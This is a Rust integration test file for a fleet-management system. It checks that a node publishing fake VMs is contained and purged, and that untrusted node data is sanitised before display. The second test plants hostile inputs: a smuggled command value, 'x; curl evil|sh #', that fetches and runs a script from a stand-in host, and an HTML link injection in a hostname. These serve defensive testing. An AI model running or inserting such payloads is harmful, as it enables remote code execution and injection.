// This Source Code Form is subject to the terms of the Mozilla Public
// License, v. 2.0. If a copy of the MPL was not distributed with this
// file, You can obtain one at https://mozilla.org/MPL/2.0/.

//! A node whose key somebody else has: what it publishes under its own name does the others no harm, and one command
//! ends it.

use bytes::Bytes;
use fleet_agent::machine::Machine;
use fleet_cli::permissions::{NODES_API, accounts, inbox};
use mocks::hub::Hub;
use sdc_clients::Jitter;
use sdc_clients::fleet::{
    Access, Fleet, Kind, Labels, Made, Position, Shape, VMS, Wire, make, subject, usage,
};
use serde_json::json;

use super::command::typed;
use super::follow::{agreed, follow};
use super::node::{CN, Running, vm};
use super::permissions::{OTHER, keys};
use super::{access, answered, made, servers, until};

/// Publishes VMs that there are not, so many.
async fn lies(wire: &Wire, count: usize) {
    let body = Bytes::from(format!(r#"{{"vm": {{"alias": "{}"}}}}"#, "x".repeat(3000)));
    for nth in 0..count {
        let at = Position { epoch: "e".into(), seq: nth as u64 + 1 };
        let own = subject(OTHER, Some(&format!("66600000-0000-4000-8000-{nth:012}")));
        wire.publish(&own, &Labels::of(Kind::Create, at), body.clone(), 0).await.unwrap();
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn a_node_that_makes_up_vms_pushes_out_nobody_elses_and_one_command_ends_it() {
    // N40
    let dir = tempfile::tempdir().unwrap();
    let Some(nats) = servers(3, Some(&accounts(&keys(&dir)))) else { return };
    let with = |name: &str| Access { nkey: Some(dir.path().join(name)), ..access(&nats) };
    let node = |cn: &str| Access { api: NODES_API.into(), inbox: Some(inbox(cn)), ..with(cn) };
    let operator = with("operator");
    let fleet = Fleet::connect(&operator, "test", Jitter::from_seed(1)).await.unwrap();
    // As a feed of before had it, and then as it is.
    let shape = Shape { replicas: 3, bytes: 8 << 20, ..Shape::default() };
    until("streams", async || make(fleet.jetstream(), &shape).await.is_ok()).await;
    let mut old = fleet.jetstream().get_stream(VMS).await.unwrap().cached_info().config.clone();
    (old.max_bytes, old.max_messages, old.discard) = (-1, -1, Default::default());
    fleet.jetstream().update_stream(&old).await.unwrap();
    let done = make(fleet.jetstream(), &shape).await.unwrap();
    assert_eq!(done.iter().find(|it| it.0 == VMS), Some(&(VMS, Made::Changed)));

    let (hub, machine) = (Hub::new(CN, 1000), Machine::drawn());
    let agent = Running::start(&hub, &node(CN), &machine).await;
    hub.put(vm(0, "before"));
    let seen = follow(&fleet);
    agreed("the node's VM", &hub, &seen).await;
    let liar =
        Wire::new(node(OTHER).connect("liar", Jitter::from_seed(2)).await.unwrap(), &node(OTHER));
    // More than VMS has room for, less than CHANGES.
    lies(&liar, 1000).await;
    hub.put(vm(1, "meanwhile"));
    let of_vms = async || {
        let health = answered("its state", async || fleet.health().await).await;
        health.into_iter().find(|it| it.stream == VMS).unwrap()
    };
    until("VMS is full", async || of_vms().await.full).await;
    assert!(of_vms().await.bytes <= (8 << 20) / 10);
    let client = operator.connect("operator", Jitter::from_seed(4)).await.unwrap();
    let wire = Wire::new(client, &operator);
    let has = async |nth| {
        let vm = vm(nth, "");
        let own = subject(CN, vm["uuid"].as_str());
        answered("VMS", async || wire.last(VMS, &own).await).await.is_some()
    };
    assert!(has(0).await, "what was there before is there");
    let used = answered("who has how much", async || usage(&fleet).await).await;
    assert!(used[0].cn == OTHER && used[0].share > 90, "{used:?}");
    assert!(used[0].changes.messages == 1000 && used[0].changes.bytes > 3_000_000, "{used:?}");
    let streams = async || typed(&operator, &["streams"]).await;
    let (is_well, text) = streams().await;
    assert!(!is_well && text.contains("(full)"), "{text}");
    let words = ["streams", "--nodes", "-H", "-p", "-o", "uuid,messages"];
    let (_, text) = typed(&operator, &words).await;
    assert!(text.starts_with(&format!("{OTHER}:1000\n")), "{text}");

    let (_, refused) = typed(&operator, &["purge", OTHER]).await;
    assert!(refused.contains("Confirm it with -y"), "{refused}");
    assert!(!typed(&with("reader"), &["purge", "-y", OTHER]).await.0);
    let (done, said) = typed(&operator, &["purge", "-y", OTHER]).await;
    assert!(done && said.starts_with("removed 1"), "{said}");
    // Followers were told, and the node's VM that had no room is in VMS by its next audit.
    agreed("nothing of it is shown", &hub, &seen).await;
    until("VMS has all", async || has(1).await).await;
    until("all is well", async || streams().await.0).await;
    let used = answered("who has how much", async || usage(&fleet).await).await;
    assert!(used.iter().all(|it| it.cn != OTHER || it.changes.messages <= 1), "{used:?}");
    agent.kill();
}

#[tokio::test(flavor = "multi_thread")]
async fn what_a_node_says_of_others_or_in_another_shape_is_shown_as_its_own_and_in_part() {
    // N36, N37, N38, N39
    let dir = tempfile::tempdir().unwrap();
    let Some(nats) = servers(1, Some(&accounts(&keys(&dir)))) else { return };
    let with = |name: &str| Access { nkey: Some(dir.path().join(name)), ..access(&nats) };
    let node = |cn: &str| Access { api: NODES_API.into(), inbox: Some(inbox(cn)), ..with(cn) };
    let operator = with("operator");
    let fleet = made(&operator, 1).await;
    let (hub, machine) = (Hub::new(CN, 1000), Machine::drawn());
    let agent = Running::start(&hub, &node(CN), &machine).await;
    for (nth, alias) in ["honest", "second"].into_iter().enumerate() {
        let mut it = vm(nth, alias);
        let secret = json!("hunter2-hunter2");
        it.insert("internal_metadata".to_owned(), json!({"root_pw": secret}));
        for name in ["spice_opts", "qemu_opts", "qemu_extra_opts", "of_a_later_version"] {
            it.insert(name.to_owned(), secret.clone());
        }
        hub.put(it);
    }

    let liar = node(OTHER).connect("liar", Jitter::from_seed(2)).await.unwrap();
    let liar = Wire::new(liar, &node(OTHER));
    let says = |nth: usize, seq: u64, vm: serde_json::Value| {
        let own = subject(OTHER, Some(&format!("66600000-0000-4000-8000-{nth:012}")));
        let labels = Labels::of(Kind::Create, Position { epoch: "e".into(), seq });
        let (liar, body) = (liar.clone(), json!({ "vm": vm }).to_string());
        async move { liar.publish(&own, &labels, body.into(), 0).await.unwrap() }
    };
    let uuid = |nth: usize| format!("66600000-0000-4000-8000-{nth:012}");
    says(0, 1, json!({"uuid": uuid(0), "alias": {"a": ["b"]}, "state": "running"})).await;
    says(1, 2, json!({"uuid": uuid(1), "alias": "y".repeat(300_000), "state": "running"})).await;
    let need = |program: &str| json!({"program": program, "what": "down", "text": "t"});
    let beat = json!({"cn_uuid": CN, "every_s": 60, "vms": 7,
        "claim": {"instance": "i", "machine": "m", "version": "1", "hostname": "<a href=//evil>cn-1</a>"},
        "needs": [need("x; curl evil|sh #"), need("net-agent")]});
    liar.beat(OTHER, beat.to_string().into(), 0).await.unwrap();

    let sdc_fleet = async |words: &[&str]| typed(&operator, words).await.1;
    let nodes = ["nodes", "-H", "-p", "-o", "uuid,node,vms,help"];
    until("both nodes", async || {
        let text = sdc_fleet(&nodes).await;
        text.lines().any(|it| it.starts_with(&format!("{CN}:cn-1:2:"))) && text.contains(OTHER)
    })
    .await;
    let text = sdc_fleet(&nodes).await;
    // Each is itself, by its key, and what is to be typed is ours.
    let line =
        format!("{OTHER}:{OTHER}:7:fleet-agent status; svcs -xv net-agent; fleet-agent status");
    assert!(text.lines().count() == 2 && text.lines().any(|it| it == line), "{text}");
    for words in [&["nodes"][..], &["nodes", "-o", "node,alarms,help"]] {
        let text = sdc_fleet(words).await;
        assert!(!text.contains("<a") && !text.contains("//evil"), "{text}");
    }
    let vms = ["vms", "-H", "-p", "-o", "uuid,alias"];
    until("all VMs", async || sdc_fleet(&vms).await.lines().count() == 4).await;
    let text = sdc_fleet(&vms).await;
    assert!(text.contains(":honest\n") && text.contains(&format!("{0}:{0}\n", uuid(0))), "{text}");
    assert!(text.len() < 2000 && text.contains(&format!("{}:yyyy", uuid(1))), "{}", text.len());
    // What the honest node's agent let out of the node.
    let changes = answered("CHANGES", async || fleet.changes(&format!("vms.{CN}.*")).await).await;
    let objects: Vec<serde_json::Value> = changes
        .iter()
        .map(|it| serde_json::from_slice(&it.body).unwrap())
        .filter(|it: &serde_json::Value| it["vm"].is_object())
        .collect();
    let text = json!(objects).to_string();
    assert!(!text.contains("hunter2") && !text.contains("_opts"), "{text}");
    let digests: Vec<&serde_json::Value> =
        objects.iter().map(|it| &it["vm"]["internal_metadata"]["root_pw"]).collect();
    assert!(digests[0].is_string() && digests[0] != digests[1], "{digests:?}");
    agent.kill();
}
